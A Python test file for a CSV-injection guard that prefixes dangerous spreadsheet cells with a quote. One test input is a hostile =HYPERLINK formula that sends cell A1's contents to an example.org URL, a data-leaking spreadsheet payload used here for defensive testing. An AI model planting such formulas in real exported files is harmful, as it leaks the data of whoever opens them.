"""Tests of the CSV injection guard (OWASP's rule)."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chronology.csv_safety import FORMULA_TRIGGERS, neutralise_cell


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://example.org/x?leak="&A1,"Click")',
        "+44 7700 900123",  # a phone number still reads as a formula to Excel
        "-1",  # negative numbers too: every cell here is text
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\uff1dSUM(A1)",  # full-width equals sign
    ],
)
def test_formula_starts_get_a_quote(cell: str) -> None:
    assert neutralise_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["", "Home visit", " =not first", "Child seen; 2+2", "'already quoted"])
def test_other_cells_unchanged(cell: str) -> None:
    assert neutralise_cell(cell) == cell


@given(st.text())
def test_never_starts_a_formula_and_loses_nothing(cell: str) -> None:
    out = neutralise_cell(cell)
    assert not out.startswith(FORMULA_TRIGGERS)
    assert out in (cell, "'" + cell)
